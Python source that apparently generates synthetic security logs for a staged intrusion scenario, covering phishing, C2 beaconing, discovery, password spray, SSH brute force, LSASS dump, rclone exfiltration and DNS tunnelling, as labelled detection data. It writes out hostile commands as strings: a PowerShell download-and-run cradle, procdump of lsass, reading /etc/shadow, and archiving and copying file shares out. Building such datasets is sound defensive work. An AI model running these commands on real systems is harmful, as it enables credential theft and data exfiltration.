"""Writes the intrusion's records (see ``scenario`` for the story and the ATT&CK mapping).

Each method is one stage; every record it adds carries the stage name, and the entities it
touches are noted for the labels. Times are jittered from the seed around a plausible
schedule (office hours for the phishing click, the operator's working day after that).
"""

from __future__ import annotations

from garrison.demo.context import OFFICE, POWERSHELL, SYS32
from garrison.demo.domains import Answer
from garrison.demo.lateral import PUBLIC, LateralMovement
from garrison.demo.scenario import encoded_command, nx
from garrison.demo.world import US_PER_MIN, US_PER_S

_SPRAY_PASSWORD_FAILS = ("admin", "test", "scanner", "backup", "guest1")
_SSH_GUESSES = ("root", "admin", "ubuntu", "deploy", "jenkins", "git", "test", "oracle")


class Intrusion(LateralMovement):
    def run(self) -> None:
        c = self.cast
        t_click = self.at(c.day_a, "09:38", 25)
        self.helpdesk_logon(self.at(c.day_a, "11:20", 20))
        self.phishing(t_click)
        self.discovery(self.at(c.day_a, "10:55", 15))
        self.password_spray(self.at(c.day_a, "12:35", 10))
        self.ssh_brute_force(self.at(c.day_a, "14:10", 15))
        self.lsass_dump(self.at(c.day_a, "16:25", 15))
        self.lateral(self.at(c.day_b, "09:12", 10))
        self.exfil_rclone(self.at(c.day_b, "11:20", 10))
        self.dns_tunnel(self.at(c.day_b, "14:05", 15))
        self.beacon_end = self.at(c.day_b, "17:20", 30)
        self.c2(t_click + 80 * US_PER_S)

    # -- a benign prelude: why LSASS held an admin's credentials ----------------------------
    def helpdesk_logon(self, t: int) -> None:
        gen, c = self.gen, self.cast
        admin_ws = self.world.by_name[c.admin_host]
        lid = gen.win.logon_id()
        gen.net.conn(
            t - 4 * US_PER_S,
            admin_ws.ip,
            self.ws.ip,
            3389,
            service="ssl",
            duration=1260.0,
            orig_bytes=900_000,
            resp_bytes=14_000_000,
        )
        gen.winlog(
            t,
            gen.win.logon(
                self.ws,
                t,
                c.admin_account,
                10,
                ip=admin_ws.ip,
                workstation=admin_ws.name,
                package="Negotiate",
                subject=f"{self.ws.name}$",
                process=SYS32 + "winlogon.exe",
                logon_id=lid,
                elevated=True,
            ),
        )
        rdpclip = gen.spawn(
            t + 3 * US_PER_S,
            self.ws,
            gen.sysproc(self.ws, "termsvc"),
            SYS32 + "rdpclip.exe",
            "rdpclip",
            user=f"{self.world.netbios}\\{c.admin_account}",
            integrity="High",
            logon_id=lid,
            logon_guid=gen.win.guid(),
            session=2,
        )
        gen.spawn(
            t + 5 * 60 * US_PER_S,
            self.ws,
            rdpclip,
            SYS32 + "mmc.exe",
            '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\printmanagement.msc"',
        )

    # -- stage 1 ---------------------------------------------------------------------------
    def phishing(self, t: int) -> None:
        gen, c, s = self.gen, self.cast, "phishing-macro"
        ws, rng = self.ws, self.rng
        docs, cdn = f"docs.{c.lookalike}", f"cdn.{c.lookalike}"
        site = Answer(0, (c.lookalike_ip,), (300.0,))
        gen.net.query(t, ws.ip, docs, answer=site, stage=s)
        gen.net.conn(
            t + 30_000,
            ws.ip,
            c.lookalike_ip,
            443,
            service="ssl",
            duration=1.8,
            orig_bytes=rng.randint(1800, 2600),
            resp_bytes=rng.randint(150_000, 240_000),
            stage=s,
        )
        home = f"C:\\Users\\{c.victim}"
        explorer = gen.win.new_proc(
            gen.sysproc(ws, "winlogon"),
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\Explorer.EXE",
            user=self.dom_victim,
            integrity="Medium",
            logon_id=gen.win.logon_id(),
            logon_guid=gen.win.guid(),
            session=1,
        )
        browser = gen.win.new_proc(
            explorer,
            "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
            '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" ',
        )
        doc = f"{home}\\Downloads\\Remittance_Advice_{rng.randint(1000, 9999)}.docm"
        gen.winlog(t + 3 * US_PER_S, gen.win.file_create(ws, t + 3 * US_PER_S, browser, doc), s)
        word = gen.spawn(
            t + 38 * US_PER_S,
            ws,
            browser,
            OFFICE + "WINWORD.EXE",
            f'"{OFFICE}WINWORD.EXE" /n "{doc}" /o ""',
            s,
            cwd=f"{home}\\Downloads\\",
        )
        dll = (
            f"{home}\\AppData\\Local\\Temp\\"
            + rng.choice(("msoutil", "wdsync", "ofcache"))
            + f"{rng.randint(10, 99)}.dll"
        )
        script = (
            f"$u='https://{cdn}/s/{rng.randint(10**5, 10**6)}/sync.dat';$p='{dll}';"
            "(New-Object Net.WebClient).DownloadFile($u,$p);"
            'Start-Process rundll32.exe -ArgumentList "$p,DllRegisterServer"'
        )
        ps = gen.spawn(
            t + 52 * US_PER_S,
            ws,
            word,
            POWERSHELL,
            f"{POWERSHELL} -nop -w hidden -enc {encoded_command(script)}",
            s,
        )
        gen.net.query(t + 53 * US_PER_S, ws.ip, cdn, answer=site, stage=s)
        gen.net.conn(
            t + 53 * US_PER_S + 40_000,
            ws.ip,
            c.lookalike_ip,
            443,
            service="ssl",
            duration=2.4,
            orig_bytes=rng.randint(900, 1300),
            resp_bytes=rng.randint(280_000, 340_000),
            stage=s,
        )
        gen.winlog(t + 56 * US_PER_S, gen.win.file_create(ws, t + 56 * US_PER_S, ps, dll), s)
        self.implant = gen.spawn(
            t + 58 * US_PER_S,
            ws,
            ps,
            SYS32 + "rundll32.exe",
            f'"{SYS32}rundll32.exe" {dll},DllRegisterServer',
            s,
        )
        task = f"OneDrive Reporting Task-{gen.win.user_sid(c.victim)}"
        gen.spawn(
            t + 75 * US_PER_S,
            ws,
            self.implant,
            SYS32 + "schtasks.exe",
            f'schtasks.exe /create /sc daily /st 09:00 /tn "{task}" /tr '
            f'"rundll32.exe {dll},DllRegisterServer" /f',
            s,
        )
        self.note(
            s, users=(c.victim,), hosts=(ws.name,), ips=(ws.ip, c.lookalike_ip), domains=(docs, cdn)
        )

    # -- stage 2 ---------------------------------------------------------------------------
    def c2(self, t: int) -> None:
        gen, c, s, rng, ws = self.gen, self.cast, "c2-dga-beacon", self.rng, self.ws
        for name in c.dga[:-1]:
            gen.net.query(t, ws.ip, name, answer=nx(), stage=s)
            t += rng.randint(400_000, 3_500_000)
        answer = Answer(0, (c.c2_ip,), (300.0,))
        gen.net.query(t, ws.ip, c.c2_domain, answer=answer, stage=s)
        resolved = t
        t += 2 * US_PER_S
        tasks = sorted(self.taskings)
        while t < self.beacon_end:
            if t - resolved >= 300 * US_PER_S:
                gen.net.query(t - 30_000, ws.ip, c.c2_domain, answer=answer, stage=s)
                resolved = t
            out, back, stage = rng.randint(310, 380), rng.randint(190, 260), s
            duration = rng.uniform(0.25, 0.9)
            if tasks and tasks[0][0] <= t:
                _, out, back, stage = tasks.pop(0)
                duration += (out + back) / rng.uniform(1.5e6, 3e6)  # ~12-24 Mbit/s
            gen.net.conn(
                t,
                ws.ip,
                c.c2_ip,
                443,
                service="ssl",
                duration=round(duration, 6),
                orig_bytes=out,
                resp_bytes=back,
                stage=stage,
            )
            t += int(60 * US_PER_S * rng.uniform(0.9, 1.1))
        self.note(s, hosts=(ws.name,), ips=(ws.ip, c.c2_ip), domains=(c.c2_domain,))

    # -- stage 3 ---------------------------------------------------------------------------
    def discovery(self, t: int) -> None:
        gen, s, ws, dc = self.gen, "discovery", self.ws, self.world.dcs[0]
        fs = self.world.one("fs")
        steps = (
            ("whoami /all", SYS32 + "whoami.exe", "whoami  /all"),
            (
                'net group "Domain Admins" /domain',
                SYS32 + "net.exe",
                'net  group "Domain Admins" /domain',
            ),
            (
                "nltest /domain_trusts /all_trusts",
                SYS32 + "nltest.exe",
                "nltest  /domain_trusts /all_trusts",
            ),
            (f"net view \\\\{fs.name} /all", SYS32 + "net.exe", f"net  view \\\\{fs.name} /all"),
        )
        for command, image, child_cmd in steps:
            cmd = self.shell(t, s, command)
            child = gen.spawn(t + 40_000, ws, cmd, image, child_cmd, s)
            if image.endswith("net.exe") and "group" in command:
                gen.spawn(
                    t + 90_000,
                    ws,
                    child,
                    SYS32 + "net1.exe",
                    'C:\\Windows\\system32\\net1  group "Domain Admins" /domain',
                    s,
                )
            self.tasking(t + 61 * US_PER_S, self.rng.randint(2000, 9000), 240)
            t += self.rng.randint(70, 240) * US_PER_S
        gen.winlog(t, gen.win.logon(dc, t, self.cast.victim, 3, ip=ws.ip), s)
        gen.net.conn(
            t + 100_000,
            ws.ip,
            dc.ip,
            389,
            service="ldap",
            duration=38.0,
            orig_bytes=self.rng.randint(90_000, 160_000),
            resp_bytes=self.rng.randint(6_000_000, 9_500_000),
            stage=s,
        )
        self.tasking(t + 2 * US_PER_MIN, self.rng.randint(1_400_000, 2_200_000), 250)
        self.note(s, users=(self.cast.victim,), hosts=(ws.name, dc.name), ips=(ws.ip,))

    # -- stage 4 ---------------------------------------------------------------------------
    def password_spray(self, t: int) -> None:
        gen, c, s, ws, rng = self.gen, self.cast, "password-spray", self.ws, self.rng
        dc = self.world.dcs[0]
        names = [u.sam for u in self.world.users if u.sam != c.victim]
        names += list(_SPRAY_PASSWORD_FAILS)
        rng.shuffle(names)
        for name in names:
            gen.net.conn(
                t - 60_000,
                ws.ip,
                dc.ip,
                445,
                service="smb,ntlm",
                duration=0.05,
                orig_bytes=rng.randint(700, 900),
                resp_bytes=rng.randint(500, 700),
                stage=s,
            )
            if name in c.sprayed_ok:
                gen.winlog(
                    t,
                    gen.win.logon(dc, t, name, 3, ip=ws.ip, workstation=ws.name, package="NTLM"),
                    s,
                )
            else:
                sub = "0xc0000064" if name in _SPRAY_PASSWORD_FAILS else "0xc000006a"
                gen.winlog(
                    t,
                    gen.win.failed_logon(
                        dc, t, name, 3, ip=ws.ip, workstation=ws.name, sub_status=sub
                    ),
                    s,
                )
                self.entities[s].targeted_users.add(name)
            t += rng.randint(2_500_000, 6_000_000)
        self.note(s, users=c.sprayed_ok, hosts=(ws.name, dc.name), ips=(ws.ip,))

    # -- stage 5 ---------------------------------------------------------------------------
    def ssh_brute_force(self, t: int) -> None:
        gen, s, ws, rng = self.gen, "ssh-brute-force", self.ws, self.rng
        build = self.world.one("build")
        real = {"root", "deploy"} | {u.sam for u in self.world.users if u.linux_uid}
        devs = sorted(u.sam for u in self.world.users if u.role == "dev")
        guesses = list(_SSH_GUESSES) + devs[:2]
        attempts = [(name, i) for i in range(3) for name in guesses if name != "deploy"]
        rng.shuffle(attempts)
        attempts.append(("deploy", 9))
        for name, _ in attempts:
            port, pid = rng.randint(40000, 60999), gen.auth.pid(build.name, t)
            gen.net.conn(
                t - 150_000,
                ws.ip,
                build.ip,
                22,
                service="ssh",
                duration=2.6,
                orig_bytes=rng.randint(1400, 1900),
                resp_bytes=rng.randint(1800, 2400),
                stage=s,
                sport=port,
            )
            if name == "deploy":
                break
            gen.auth.failed_password(
                t, build, name, ws.ip, port, pid, invalid=name not in real, stage=s
            )
            closed = (
                f"Connection closed by authenticating user {name} {ws.ip} port {port}"
                if name in real
                else f"Connection closed by invalid user {name} {ws.ip} port {port}"
            )
            gen.auth.line(t + 2_400_000, build, "sshd", pid, f"{closed} [preauth]", s)
            self.entities[s].targeted_users.add(name)
            t += rng.randint(1_500_000, 6_000_000)
        gen.auth.ssh_session(
            t,
            build,
            "deploy",
            ws.ip,
            rng.uniform(300, 500),
            method="password",
            stage=s,
            sudo=("list", "/usr/bin/cat /etc/shadow"),
        )
        self.note(s, users=("deploy",), hosts=(ws.name, build.name), ips=(ws.ip,))

    # -- stage 6 ---------------------------------------------------------------------------
    def lsass_dump(self, t: int) -> None:
        gen, c, s, ws, rng = self.gen, self.cast, "lsass-dump", self.ws, self.rng
        tool, dump = f"{PUBLIC}\\procdump64.exe", f"{PUBLIC}\\lsass.dmp"
        assert self.implant is not None  # noqa: S101 - narrows the type for mypy; set when the persona starts
        self.tasking(t - 50 * US_PER_S, 330, rng.randint(420_000, 460_000), s)
        gen.winlog(
            t - 20 * US_PER_S, gen.win.file_create(ws, t - 20 * US_PER_S, self.implant, tool), s
        )
        cmd = self.shell(t, s, f"{tool} -accepteula -ma lsass.exe {dump}")
        proc = gen.spawn(
            t + 50_000,
            ws,
            cmd,
            tool,
            f"{tool}  -accepteula -ma lsass.exe {dump}",
            s,
            integrity="High",
        )
        lsass = gen.sysproc(ws, "lsass")
        trace = (
            "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll"
            "+2c13e|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6f5d|C:\\Windows\\SYSTEM32\\dbgcore."
            f"DLL+7d3b|C:\\Windows\\SYSTEM32\\dbghelp.dll+2d5e1|{tool}+2a8f1|"
            f"{tool}+1f0c3|C:\\Windows\\System32\\KERNEL32.DLL+17034|"
            "C:\\Windows\\SYSTEM32\\ntdll.dll+52651"
        )
        gen.winlog(
            t + 300_000, gen.win.process_access(ws, t + 300_000, proc, lsass, "0x1fffff", trace), s
        )
        gen.winlog(t + 2 * US_PER_S, gen.win.file_create(ws, t + 2 * US_PER_S, proc, dump), s)
        self.tasking(t + 70 * US_PER_S, rng.randint(38_000_000, 52_000_000), 260, s)
        self.shell(t + 9 * US_PER_MIN, s, f"del /f /q {dump} {tool}")
        self.note(s, users=(c.victim,), hosts=(ws.name,), ips=(ws.ip,))

    # -- stage 8 ---------------------------------------------------------------------------
    def exfil_rclone(self, t: int) -> None:
        gen, c, s, ws, rng = self.gen, self.cast, "exfil-rclone", self.ws, self.rng
        fs = self.world.one("fs")
        pkg = "C:\\ProgramData\\pkg"
        self.tasking(t - 3 * US_PER_MIN, 400, rng.randint(28_000_000, 34_000_000), s)
        gen.net.conn(
            t,
            ws.ip,
            fs.ip,
            445,
            service="smb,ntlm",
            duration=21.0,
            orig_bytes=rng.randint(28_000_000, 34_000_000),
            resp_bytes=rng.randint(40_000, 90_000),
            stage=s,
        )
        password = "".join(
            rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz23456789")
            for _ in range(12)
        )
        archive = (
            f"{pkg}\\7z.exe a -mx1 -v2g -p{password} {pkg}\\fs.7z "
            "D:\\Shares\\Finance D:\\Shares\\HR"
        )
        shell = self.psexec(t + 2 * US_PER_MIN, s, "fs", archive)
        gen.spawn(t + 2 * US_PER_MIN + 2_300_000, fs, shell, f"{pkg}\\7z.exe", archive, s)
        t_copy = t + rng.randint(28, 40) * US_PER_MIN
        copy = (
            f"{pkg}\\rclone.exe copy {pkg} bk:incoming --config {pkg}\\rclone.conf "
            "--transfers 4 --ignore-existing --auto-confirm -q"
        )
        shell = self.psexec(t_copy, s, "fs", copy)
        gen.spawn(t_copy + 2_300_000, fs, shell, f"{pkg}\\rclone.exe", copy, s)
        for i in range(4):
            gen.net.conn(
                t_copy + 3 * US_PER_S + i * 200_000,
                fs.ip,
                c.exfil_ip,
                22,
                service="ssh",
                duration=round(rng.uniform(2400, 4200), 6),
                orig_bytes=rng.randint(700_000_000, 1_100_000_000),
                resp_bytes=rng.randint(2_000_000, 4_000_000),
                stage=s,
            )
        self.note(
            s, users=(c.admin_account,), hosts=(ws.name, fs.name), ips=(ws.ip, fs.ip, c.exfil_ip)
        )

    # -- stage 9 ---------------------------------------------------------------------------
    def dns_tunnel(self, t: int) -> None:
        gen, c, s, ws, rng = self.gen, self.cast, "exfil-dns-tunnel", self.ws, self.rng
        alphabet = "abcdefghijklmnopqrstuvwxyz234567"
        seq = rng.randint(0, 4000)
        for _ in range(rng.randint(9, 14)):
            for _ in range(rng.randint(25, 55)):
                chunk = "".join(rng.choice(alphabet) for _ in range(rng.randint(100, 116)))
                name = f"{chunk[:58]}.{chunk[58:]}.{seq:04x}.{c.tunnel_domain}"
                reply = "".join(rng.choice("0123456789abcdef") for _ in range(16))
                answer = Answer(0, (f"TXT {len(reply)} {reply}",), (0.0,))
                gen.net.query(t, ws.ip, name, qtype="TXT", answer=answer, stage=s)
                seq += 1
                t += rng.randint(250_000, 1_400_000)
            t += rng.randint(40, 200) * US_PER_S
        self.note(s, hosts=(ws.name,), ips=(ws.ip,), domains=(c.tunnel_domain,))
